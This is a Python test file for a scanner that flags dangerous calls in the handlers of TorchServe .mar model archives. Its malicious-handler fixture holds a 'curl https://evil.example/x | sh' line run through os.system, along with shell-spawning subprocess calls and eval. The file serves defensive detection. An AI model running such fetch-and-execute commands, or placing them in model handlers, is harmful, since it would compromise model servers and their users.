"""Python handlers inside TorchServe .mar archives, parsed with ast (never run)."""

from __future__ import annotations

import json

from scanhits import EVIL_CALL, evil, hits
from zipgen import Entry, build

MANIFEST = json.dumps({"model": {"modelName": "resnet", "handler": "handler.py", "serializedFile": "model.pt"}}).encode()
BENIGN_HANDLER = b'''import json
import os

import torch
from ts.torch_handler.image_classifier import ImageClassifier


class Handler(ImageClassifier):
    def initialize(self, context):
        model_dir = context.system_properties.get("model_dir")
        with open(os.path.join(model_dir, "index_to_name.json")) as f:
            self.mapping = json.load(f)
        self.model = torch.jit.load(os.path.join(model_dir, "model.pt"))
        os.makedirs(os.environ.get("TS_CACHE", "/tmp/ts"), exist_ok=True)
'''
EVIL_HANDLER = BENIGN_HANDLER + b'''
import subprocess as sp
from os import system as run_it


def _setup():
    run_it("curl https://evil.example/x | sh")
    sp.Popen(["sh", "-c", "id"])
    eval(compile("print(1)", "<x>", "exec"))  # \xc3\xa9 a non-ASCII comment before the next call
    sp.Popen(["sh"])
'''


def mar(handler: bytes, *extra: Entry) -> bytes:
    return build([Entry("MAR-INF/MANIFEST.json", MANIFEST), Entry("handler.py", handler), *extra]).data


def test_dangerous_calls_in_a_handler_are_critical_once_each(scan_tree):
    scan = scan_tree({"resnet.mar": mar(EVIL_HANDLER)}, select="models")
    assert hits(scan) == [
        ("MOD015", "resnet.mar", "handler.py", EVIL_HANDLER.index(b'run_it("')),
        ("MOD015", "resnet.mar", "handler.py", EVIL_HANDLER.index(b"sp.Popen")),
        ("MOD015", "resnet.mar", "handler.py", EVIL_HANDLER.index(b"eval(")),
        ("MOD015", "resnet.mar", "handler.py", EVIL_HANDLER.index(b"compile(")),
    ]
    assert scan.messages("MOD015")[:2] == [
        "handler code calls os.system: it starts a process when the model server loads the archive",
        "handler code calls subprocess.Popen: it starts a process when the model server loads the archive",
    ]


def test_ordinary_handlers_and_python_outside_torchserve_archives_are_quiet(scan_tree):
    """File reads, torch.jit.load and os.makedirs are what handlers do; a zip without the
    TorchServe manifest is not loaded by a model server."""
    plain_zip = build([Entry("tools/setup.py", EVIL_HANDLER)]).data
    scan = scan_tree({"resnet.mar": mar(BENIGN_HANDLER), "tools.zip": plain_zip}, select="models")
    assert (hits(scan), scan.errors) == ([], [])


def test_the_serialized_model_of_the_archive_is_still_scanned(scan_tree):
    scan = scan_tree({"resnet.mar": mar(BENIGN_HANDLER, Entry("model.pt", evil()))}, select="models")
    assert hits(scan) == [("MOD001", "resnet.mar", "model.pt", EVIL_CALL)]
